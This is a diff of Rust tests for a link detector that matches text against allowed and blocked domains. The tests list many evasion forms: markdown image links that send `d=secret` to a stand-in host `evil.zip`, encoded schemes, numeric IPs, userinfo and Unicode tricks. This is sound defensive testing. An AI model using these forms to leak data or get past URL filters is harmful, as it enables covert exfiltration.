@@ -1,6 +1,16 @@
 //! Tests of links.
 
 use super::Urls;
+use std::cell::Cell;
+
+thread_local! {
+    static VISITED: Cell<usize> = const { Cell::new(0) };
+}
+
+/// Notes how many bytes were looked at to find where a link ends.
+pub(super) fn note_visited(bytes: usize) {
+    VISITED.set(VISITED.get() + bytes);
+}
 
 fn found(urls: &Urls, text: &str) -> Vec<String> {
     let mut out = Vec::new();
@@ -16,7 +26,7 @@ fn links_need_no_scheme() {
         ("see www.bad.example/x, please", vec!["www.bad.example/x"]),
         ("see WWW.Bad.Example", vec!["WWW.Bad.Example"]),
         ("see bad.com/x?y=1", vec!["bad.com/x?y=1"]),
-        ("see //bad.com/x", vec!["bad.com/x"]),
+        ("see //bad.com/x", vec!["//bad.com/x"]),
         ("at bad.io:8080", vec!["bad.io:8080"]),
         ("(bad.com/x)", vec!["bad.com/x"]),
         ("www.good.example/x and sub.good.example/y", vec![]),
@@ -35,5 +45,97 @@ fn links_need_no_scheme() {
         ("go to notbad.com/x or www.other.org/y", vec![]),
     ] {
         assert_eq!(found(&not, text), want, "{text}");
+    }
+}
+
+#[test]
+fn what_browsers_follow_is_a_link_however_it_is_written() {
+    let only = Urls::new(&["good.com".into()], &[]);
+    for text in [
+        "![a](//evil.zip/?d=secret)",
+        "![a](//10.1.2.3/?d=secret)",
+        "![a](//167838211/?d=secret)",
+        "![a](//0xa.1.2.3/?d=secret)",
+        "![a](//[::1]/?d=secret)",
+        "![a](///evil.zip/x)",
+        "![a](/\\evil.zip/x)",
+        "<img src=//evil.zip/x>",
+        "<img src='//evil.zip/x'>",
+        "<img src=\"\\\\evil.zip/x\">",
+        "[a]: //evil.zip/x",
+        "[a]://evil.zip/x",
+        "https:/evil.zip/x",
+        "https:evil.zip/x",
+        "HTTPS:\\\\evil.zip\\x",
+        "https:/\\evil.zip/x",
+        "https&#58;//evil.zip/x",
+        "https&#x3a;&sol;&sol;evil&period;zip/x",
+        "&#104;ttps&colon;//evil.zip",
+        "ht&Tab;tps://evil.zip",
+        "![a](//good.com.evil.zip/x)",
+        "![a](//good.com@evil.zip/x)",
+        "![a](https://good.com|@evil.zip/x)",
+        "![a](https://good.com'@evil.zip/x)",
+        "![a](//evil%2ezip/x)",
+        "![a](//evil\u{ff0e}zip/x)",
+        "![a.png](https://evil.zip/x)",
+        "[https://good.com/](https://evil.zip/x)",
+        "[https://good.com/]:https://evil.zip/x",
+        "<a title='https://good.com/'href='https://evil.zip/x'>",
+        "<img srcset=\"a.png,//evil.zip/x\">",
+        "background:url(//evil.zip/x)",
+    ] {
+        let found = found(&only, text);
+        assert_eq!(found.len(), 1, "{text}: {found:?}");
+    }
+    assert_eq!(found(&only, "x ![a](https&#58;//evil.zip/x&amp;y) z"), ["https&#58;//evil.zip/x&amp;y"]);
+    for text in [
+        "![a](//good.com/x) <img src=//www.good.com/x> https:/good.com/x https&#58;//good.com/",
+        "https://good.com:8080/?u=https://evil.zip and https://me@good.com/",
+        "//g%6fod.com/x and //\u{ff47}ood.com/x",
+        "<a href='https://good.com'>me@evil.zip</a>",
+        "{\"a\":\"https://good.com\",\"b\":\"me@evil.zip\"}",
+        "x = 1; // TODO evil",
+        "//TODO remove",
+        "//console.log(x)",
+        "a//b.c and ./a//b.c, 10//2.5",
+        "http: it is a scheme, https: too, http:\\n",
+        "a:b.c and std::io::Error, /etc/passwd.old, \\d+ and C:\\\\dir",
+        "x &amp; y, a&b; &copy 2020",
+    ] {
+        assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
+    }
+    let not = Urls::new(&[], &["evil.com".into(), "10.1.2.3".into()]);
+    for text in
+        ["//e%76il.com", "https://\u{ff45}vil.com/x", "//0x0a010203/", "https:/evil.com", "//ev\u{ad}il.com/"]
+    {
+        assert_eq!(found(&not, text).len(), 1, "{text}");
+    }
+}
+
+#[test]
+fn no_byte_is_looked_at_for_each_link_that_may_begin_before_it() {
+    let (only, not) = (Urls::new(&["good.com".into()], &[]), Urls::new(&[], &["evil.com".into()]));
+    for piece in [
+        "a.",
+        "a.a/",
+        "a.a,",
+        "http:",
+        "http:a.b,",
+        "http:a.b@",
+        "://",
+        "//a.b@",
+        "a@",
+        "//",
+        "&#58;//",
+        "a.b](",
+        "x://a",
+    ] {
+        let text = piece.repeat((16 << 10) / piece.len());
+        for urls in [&only, &not] {
+            VISITED.set(0);
+            found(urls, &text);
+            assert!(VISITED.get() <= text.len() * 5, "{piece}: {} of {}", VISITED.get(), text.len());
+        }
     }
 }
